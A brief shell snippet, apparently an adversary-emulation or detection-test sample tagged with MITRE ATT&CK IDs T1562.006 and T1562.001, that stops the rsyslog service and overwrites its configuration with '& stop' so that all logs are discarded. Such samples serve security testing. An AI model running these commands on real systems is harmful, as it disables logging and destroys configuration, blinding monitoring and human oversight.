# title: rsyslog is stopped and its configuration emptied
# technique: T1562.006 T1562.001

systemctl stop rsyslog 2>/dev/null
echo '& stop' >/etc/rsyslog.conf
